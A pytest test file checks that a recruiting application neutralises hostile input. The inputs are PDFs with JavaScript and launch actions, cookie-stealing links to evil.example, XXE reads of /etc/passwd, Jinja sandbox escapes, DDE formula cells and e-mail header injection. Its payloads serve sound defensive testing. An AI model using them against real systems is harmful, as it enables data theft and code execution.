"""Hostile input (issue 8): uploaded files, templates, CSV cells and e-mail headers.

What the other suites already cover is listed in the closing note of the issue; these
are the cases they did not: a PDF carrying JavaScript, launch actions and attachments;
links of any scheme found in a resume; markup dressed as a resume; file names built to
break the download header; header injection through interview notices and a sequence's
sender name; Jinja's own ``self``; formula cells in a report's filters; an upload larger
than its policy (moto does not enforce policies); and links to uploaded files that
must download, never open in the recruiter's browser. The last three use the moto
fixtures (tests/conftest.py), in process like everything else here.
"""

from __future__ import annotations

import base64
import csv
import io
from typing import Any
from urllib.parse import parse_qs, urlsplit

import boto3
import pytest

from recruiting import wiring
from recruiting.intake.documents import DocumentKind, Rejection, identify
from recruiting.outreach import mail
from recruiting.outreach.render import Footer, TemplateError, check_template, render
from recruiting.reports.exports import to_csv, to_pdf
from recruiting.reports.metrics import Report
from recruiting.resumes import UnreadableDocument, parse_bytes
from recruiting.resumes.pipeline import _kept_links
from support import application

# --- uploaded files ----------------------------------------------------------------


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF with a correct cross-reference table, one object per entry."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


_LINES = [
    b"Ada Lovelace",
    b"ada@example.com",
    b"+44 20 7946 0958",
    b"",
    b"Experience",
    b"Analyst, Babbage & Co",
    b"1842 - 1843",
    b"",
    b"Skills",
    b"Python, SQL",
]
_JS = b"app.alert\\('pwned'\\); this.submitForm\\('https://evil.example/steal'\\);"


def hostile_pdf() -> bytes:
    """A one-page resume that runs JavaScript on open, on page open and on close, has a
    link that launches a program, javascript: and data: links, and an attached .exe."""
    content = b"BT /F1 12 Tf 72 720 Td 16 TL " + b" ".join(b"(" + t + b") '" for t in _LINES)
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >>"
            b" /Names << /JavaScript << /Names [(x) 6 0 R] >>"
            b" /EmbeddedFiles << /Names [(payload.exe) 9 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]"
            b" /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R"
            b" /Annots [7 0 R 8 0 R 11 0 R] /AA << /O 6 0 R >> >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            _stream(content + b" ET"),
            b"<< /S /JavaScript /JS (" + _JS + b") >>",
            b"<< /Type /Annot /Subtype /Link /Rect [72 600 200 620]"
            b" /A << /S /Launch /F (calc.exe) >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [72 560 200 580]"
            b" /A << /S /URI /URI (javascript:alert\\(document.cookie\\)) >> >>",
            b"<< /Type /Filespec /F (payload.exe) /EF << /F 10 0 R >> >>",
            _stream(b"MZ\x90\x00not really a program", b"/Type /EmbeddedFile "),
            b"<< /Type /Annot /Subtype /Link /Rect [72 520 200 540]"
            b" /A << /S /URI /URI (data:text/html,<script>alert\\(1\\)</script>) >> >>",
        ]
    )


def test_a_pdf_with_javascript_actions_and_attachments_is_read_as_text_only(monkeypatch):
    import pypdfium2
    import pypdfium2.raw

    # Given a resume PDF that carries scripts, a launch action and an attached program
    data = hostile_pdf()
    for marker in (b"/JavaScript", b"/OpenAction", b"/Launch", b"/EmbeddedFile"):
        assert marker in data

    # (pdfium runs a PDF's JavaScript only inside a form-fill environment)
    def never(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("the PDF's form environment (its JavaScript) was initialised")

    monkeypatch.setattr(pypdfium2.PdfDocument, "init_forms", never)
    monkeypatch.setattr(pypdfium2.raw, "FPDFDOC_InitFormFillEnvironment", never)
    # When the intake judges it and the parser reads it
    assert identify(data) is DocumentKind.PDF  # a PDF is a PDF: what it carries is inert
    profile = parse_bytes(data, filename="cv.pdf")
    # Then only its printed text counts: no script, program or dangerous link comes out
    assert (profile.name, profile.email, profile.phone) == (
        "Ada Lovelace",
        "ada@example.com",
        "+442079460958",
    )
    assert profile.skills == ["Python", "SQL"]
    for leak in ("alert", "evil.example", "calc.exe", "payload.exe", "MZ"):
        assert leak not in profile.text
    assert profile.links == []


def test_links_in_a_resume_are_kept_only_as_https():
    # Given a resume listing links of every scheme an attacker might try
    text = (
        "Ada Lovelace\nada@example.com\n"
        "Portfolio: javascript://example.com/%0Aalert(1)\n"
        "Website: JaVaScRiPt://ada.dev/%0Aalert(document.cookie)\n"
        'GitHub: https://github.com/ada"><script>alert(1)</script>\n'
        "Site: data:text/html;base64,PHNjcmlwdD4=\n"
        "Blog: vbscript://x.example/msgbox\n"
        "FTP: ftp://files.example.org/cv\n"
        "LinkedIn: linkedin.com/in/ada\n"
    )
    # When it is parsed and its links chosen for the profile
    kept = _kept_links(parse_bytes(text.encode(), filename="cv.txt"), [])
    kept += _kept_links(parse_bytes(hostile_pdf(), filename="cv.pdf"), [])
    # Then every kept link is an https link with no markup
    assert kept
    for link in kept:
        assert link.startswith("https://"), link
        assert not any(c in link for c in '<>"\r\n '), link
        assert not any(s in link.lower() for s in ("javascript:", "data:", "vbscript:")), link


@pytest.mark.parametrize(
    "data",
    [
        b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    ],
    ids=["html", "svg", "xml-entity"],
)
def test_markup_dressed_as_a_resume_is_only_ever_plain_text(data):
    # Given markup uploaded as a resume (any name, any declared type)
    kind = identify(data)
    # Then it is judged by content: at most UTF-8 text, stored and served as text/plain
    assert kind is DocumentKind.TXT
    assert kind.content_type == "text/plain; charset=utf-8"
    # And the parser reads it as words, never as markup (no entity is expanded)
    profile = parse_bytes(data, filename="cv.pdf")
    assert "root:" not in profile.text
    assert "extension_mismatch" in profile.flags


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (b"%PDF-1.4\n<html><script>alert(1)</script></html>", "file_corrupt"),
        (b"PK\x03\x04" + b"<html>" * 20, "file_type"),
        (b"GIF89a" + b"\x00" * 64, "file_type"),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 64, "file_type"),
    ],
    ids=["pdf-magic-then-html", "zip-magic-then-html", "gif", "elf"],
)
def test_wrong_or_borrowed_magic_bytes_are_refused(data, rule):
    judged = identify(data)
    if isinstance(judged, Rejection):
        assert judged.rule == rule
    else:  # the header is a PDF's: the intake takes it, the parser refuses the rest
        with pytest.raises(UnreadableDocument) as refused:
            parse_bytes(data)
        assert refused.value.rule == rule


@pytest.mark.parametrize(
    "filename",
    [
        "cv.pdf\r\nContent-Type: text/html",
        '"; filename=evil.html',
        "../../etc/passwd",
        "a;b,c\\d.pdf",
        "Zoë résumé\u2028.pdf",
    ],
)
def test_a_hostile_file_name_cannot_break_the_download_header(filename, monkeypatch):
    from recruiting.storage.files import ResumeStore

    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    store = ResumeStore("bucket", client=boto3.client("s3", region_name="us-east-1"))
    # When a link to a file is made with the name its uploader gave
    url = store.download_url("applications/c/a/resume.pdf", 60, filename)
    (disposition,) = parse_qs(urlsplit(url).query)["response-content-disposition"]
    # Then it downloads as an attachment whose name is one percent-encoded parameter
    prefix = "attachment; filename*=UTF-8''"
    assert disposition.startswith(prefix)
    encoded = disposition.removeprefix(prefix)
    assert encoded.isascii()
    assert not any(c in encoded for c in '\r\n";\\ /,')


# --- templates ---------------------------------------------------------------------

FOOTER = Footer("Acme, 1 Main Street, Springfield", "https://crm.acme.example/u/1")


@pytest.mark.parametrize(
    ("subject", "rule"),
    [
        ("{{ self }}", "unknown_token"),  # Jinja's own name for the template
        ("{{ self.__class__ }}", "template_unsafe"),
        ("{{ self._TemplateReference__context }}", "template_unsafe"),
        ("{{ first_name|attr('__class__') }}", "template_syntax"),
        ("{{ lipsum.__globals__ }}", "template_unsafe"),
        ("{{ namespace() }}", "template_unsafe"),
        ("{{ config }}", "unknown_token"),
        ("{{ (first_name|list).pop() }}", "template_unsafe"),
        ("{{ '%s'|format(first_name.__class__) }}", "template_unsafe"),
        ("{{ first_name * 999999999 }}", "template_unsafe"),
        ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "template_unsafe"),
        ("{% extends 'base.html' %}", "template_unsafe"),
        ("{{ 'a'|replace('a', 'b' * 999999) }}", "template_unsafe"),
    ],
)
def test_more_sandbox_escapes_are_refused_before_anything_runs(subject, rule):
    for attempt in (
        lambda: check_template(subject, "b"),
        lambda: render(subject, "b", {"first_name": "Ada"}, FOOTER),
    ):
        with pytest.raises(TemplateError) as caught:
            attempt()
        assert (caught.value.field, caught.value.rule) == ("subject", rule)


# --- CSV cells ---------------------------------------------------------------------


def test_formula_cells_are_neutralised_in_filters_and_groups_too():
    # Given a report whose filters (typed by its requester) and groups (job titles,
    # names: typed by others) start like formulas, including DDE payloads
    hostile = [
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ]
    report = Report("funnel", "Pipeline funnel", ["group", "stage", "reached"], [])
    report.rows = [[value, "applied", 1] for value in hostile]
    raw = to_csv(report, [("department", value) for value in hostile], bom=False)
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    # Then every one of them reads as text, with the apostrophe a spreadsheet hides
    cells = [r[1] for r in rows[1 : 1 + len(hostile)]] + [r[0] for r in rows[-len(hostile) :]]
    assert cells == ["'" + value for value in hostile] * 2
    # And the PDF of the same report prints them without failing
    assert to_pdf(report, [("department", value) for value in hostile]).startswith(b"%PDF-")


# --- e-mail headers --------------------------------------------------------------------


def _notice(**overrides: str) -> bytes:
    values = {
        "sender": "recruiting@acme.example",
        "sender_name": "Acme Recruiting",
        "recipient": "ivy@acme.example",
        "subject": "Interview: Technical",
        "text": "See you then.\n",
        "message_key": "INT#1/NOTICE#1",
    }
    return mail.build_notice(**{**values, **overrides})


@pytest.mark.parametrize(
    ("field", "value", "header"),
    [
        ("subject", "Interview\r\nBcc: victim@example.net", "Subject"),
        ("subject", "Interview\nBcc: victim@example.net", "Subject"),
        ("subject", "Interview\u2028Bcc: victim@example.net", "Subject"),
        ("sender_name", "Acme\r\nBcc: victim@example.net", "From"),
        ("recipient", "ivy@acme.example\r\nBcc: victim@example.net", "To"),
        ("recipient", "Ivy <ivy@acme.example>, victim@example.net", "To"),
        ("message_key", "k\r\nBcc: victim@example.net", "X-Outreach-Key"),
    ],
)
def test_notices_refuse_header_injection_naming_the_header(field, value, header):
    """Invitations, reminders and report e-mails (``build_notice``), as outreach's
    ``build_message`` already is (tests/unit/test_outreach_mail.py)."""
    with pytest.raises(ValueError, match=header):
        _notice(**{field: value})
    assert b"Bcc" not in _notice()


@pytest.mark.parametrize("title", ["Tech\r\nBcc: victim@example.net", "Tech\nscreen", "A\x00B"])
def test_an_interview_title_that_would_break_the_subject_is_refused_at_once(title):
    """The title is the invitations' subject: refused when scheduled (422 naming the
    field), not discovered later as invitations silently skipped."""
    from recruiting.interviews.models import InterviewRequest, RescheduleRequest

    body = {
        "title": title,
        "start": "2026-03-10T10:00:00",
        "end": "2026-03-10T11:00:00",
        "time_zone": "America/New_York",
        "location": "Room 4",
        "interviewers": ["ivy"],
    }
    with pytest.raises(ValueError, match="title"):
        InterviewRequest.model_validate(body)
    with pytest.raises(ValueError, match="title"):
        RescheduleRequest.model_validate({"title": title})
    assert InterviewRequest.model_validate({**body, "title": "Tech\tscreen"}).title


# --- through the APIs (moto) ---------------------------------------------------------


def test_a_sequence_sender_name_that_would_inject_headers_is_refused(ats):
    reply = ats.as_role("recruiter").post_json(
        "/ats/sequences",
        {
            "name": "x",
            "steps": [{"subject": "Hi", "body": "b"}],
            "sender_name": "Ada\r\nBcc: victim@example.net",
        },
    )
    assert reply.status == 422, reply.body
    assert reply.json()["errors"][0]["field"] == "sender_name"


def test_an_upload_larger_than_its_policy_is_refused_when_applying(api, demo, store):
    # Given a presigned upload for 2 MB, and 10 MB + 1 byte put there instead (moto,
    # like a misconfigured bucket, does not enforce the POST policy)
    job = demo.open_job_ids[0]
    upload = api.post_json(
        f"/jobs/{job}/applications/uploads",
        {"filename": "cv.pdf", "content_type": "application/pdf", "size": 2_000_000},
    ).json()
    boto3.client("s3").put_object(
        Bucket=store.env[wiring.RESUMES.env],
        Key=upload["fields"]["key"],
        Body=b"%PDF-1.4\n" + b"0" * (10 * 1024 * 1024 - 8),
    )
    # When an application names it
    reply = api.post_json(
        f"/jobs/{job}/applications", application(resume={"upload_id": upload["upload_id"]})
    )
    # Then it is refused by rule, and nothing is stored
    assert ("resume", "file_too_large") in reply.field_rules()
    assert store.items("candidates") == []
    assert store.objects("applications/") == {}


def test_links_to_uploaded_files_download_and_never_open_inline(api, ats, demo, aws):
    from resume_parser import handler

    from support import drain

    # Given an application whose PDF resume carries scripts, parsed
    resume = {"filename": "cv.pdf", "content_base64": base64.b64encode(hostile_pdf()).decode()}
    receipt = api.post_json("/jobs/4000001/applications", application(resume=resume)).json()
    handler.use(None)
    assert drain(aws[wiring.RESUME_UPLOADS_QUEUE.env], handler.lambda_handler, "parser") == []
    handler.use(None)
    # When a recruiter opens the profile
    profile = ats.as_role("recruiter").get(f"/ats/candidates/{receipt['candidate_id']}").json()
    (application_view,) = profile["applications"]
    (parsed,) = profile["parsed_resumes"]
    links = [application_view["documents"]["resume"]["download_url"], parsed["document_url"]]
    # Then every link to the uploaded file downloads it as an attachment
    for link in links:
        query = parse_qs(urlsplit(link).query)
        assert query["response-content-disposition"][0].startswith("attachment;"), link
